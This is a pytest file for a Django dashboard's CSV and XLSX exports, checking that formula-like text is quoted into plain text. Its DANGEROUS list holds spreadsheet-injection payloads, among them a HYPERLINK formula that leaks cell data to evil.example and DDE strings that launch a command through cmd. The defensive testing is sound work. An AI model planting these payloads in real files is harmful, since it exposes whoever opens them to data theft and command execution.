"""No text in an export ever becomes a live formula: every export writes through liaison.exports,
and each of the starts a spreadsheet reads as a formula comes out as plain text."""

import csv
import datetime
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from dashboard.tests.conftest import PERIOD, T0
from issues import clock
from issues.models import Category
from liaison.exports import safe_cell, xlsx_response

pytestmark = pytest.mark.usefixtures("plain_static")

# Each start a spreadsheet may run: = + - @, and tab or carriage return before a formula.
DANGEROUS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"查看详情")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _csv_cells(response) -> list[str]:
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _xlsx_cells(content: bytes) -> list:
    sheet = load_workbook(io.BytesIO(content)).active
    return [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]


def _assert_text_not_formula(cells, value: str) -> None:
    """The cell holding `value` is a string cell with the neutralising quote, not a formula."""
    # An XML reader hands a bare carriage return back as a line feed.
    quoted, bare = ("'" + value).replace("\r", "\n"), value.replace("\r", "\n")
    found = [c for c in cells if c.value == quoted]
    assert found, value
    assert {c.data_type for c in found} == {"s"}
    assert not [c for c in cells if c.value == bare]


@pytest.mark.parametrize("value", DANGEROUS)
def test_safe_cell_quotes_every_formula_start(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["正常的内容", "13812345678", "", "a=b", " 空格开头"])
def test_safe_cell_leaves_plain_text_alone(value):
    assert safe_cell(value) == value


def test_safe_cell_leaves_numbers_and_dates_as_they_are():
    day = datetime.date(2025, 10, 1)
    assert [safe_cell(v) for v in (-3, 2.5, 0, day, None)] == [-3, 2.5, 0, day, ""]


def test_a_control_character_cannot_hide_a_formula_from_the_xlsx_check():
    response = xlsx_response([["\x01=1+1", "正常\x02文本"]], "t.xlsx", "t")
    cells = _xlsx_cells(response.content)
    assert [(c.value, c.data_type) for c in cells] == [("'=1+1", "s"), ("正常文本", "s")]


@pytest.fixture
def dangerous_cases(world, cases):
    """A case per dangerous start, in its content and in its category's name (categories are
    typed in the admin, and the model keeps leading tabs: the content's form strips them)."""
    made = []
    with clock.frozen_at(T0):
        for i, value in enumerate(DANGEROUS):
            category = Category.objects.create(name=value)
            made.append(world.submit(content=f"{value} 第{i}件", category_id=category.pk))
    return made


@pytest.mark.parametrize("value", DANGEROUS)
def test_the_case_export_xlsx_holds_formula_like_text_as_text(world, dangerous_cases, login, frozen_now, value):
    response = login("township_staff").get(reverse("dashboard:export", args=["cases", "xlsx"]), PERIOD)
    cells = _xlsx_cells(response.content)
    assert not [c for c in cells if c.data_type == "f"]
    _assert_text_not_formula(cells, value)  # the category's name, exactly


@pytest.mark.parametrize("value", DANGEROUS)
def test_the_case_export_csv_holds_formula_like_text_as_text(world, dangerous_cases, login, frozen_now, value):
    cells = _csv_cells(login("township_staff").get(reverse("dashboard:export", args=["cases", "csv"]), PERIOD))
    assert "'" + value in cells
    assert value not in cells
    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_figures_export_writes_a_formula_like_station_name_as_text(world, cases, login, frozen_now, fmt):
    world.railway_point.name = DANGEROUS[0]
    world.railway_point.save(update_fields=["name"])
    params = {**PERIOD, "station": world.railway_point.pk}
    response = login("admin").get(reverse("dashboard:export", args=["figures", fmt]), params)
    if fmt == "csv":
        cells = _csv_cells(response)
        assert not [c for c in cells if c.startswith(("=", "+", "-", "@"))]
    else:
        cells = _xlsx_cells(response.content)
        assert not [c for c in cells if c.data_type == "f"]
    assert DANGEROUS[0] in str(cells[0] if fmt == "csv" else cells[0].value)  # the heading names the station
